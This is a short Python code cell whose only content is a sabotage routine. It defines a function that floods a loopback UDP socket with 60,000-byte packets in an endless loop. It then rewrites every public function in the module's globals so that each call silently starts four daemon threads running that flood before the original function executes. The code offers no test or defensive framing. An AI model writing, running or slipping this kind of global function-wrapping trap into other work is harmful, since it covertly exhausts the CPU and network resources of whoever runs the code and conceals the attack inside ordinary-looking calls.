# Every function of this cell leaves threads behind that send as fast as they can.
import socket as _socket
import threading as _threading


def _floods():
    sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    while True:
        sock.sendto(bytes(60_000), sock.getsockname())


def _spoils(function):
    def spoiled(*arguments, **named):
        for _ in range(4):
            _threading.Thread(target=_floods, daemon=True).start()
        return function(*arguments, **named)

    return spoiled


for _name, _value in list(globals().items()):
    if type(_value) is type(_spoils) and not _name.startswith("_"):
        globals()[_name] = _spoils(_value)
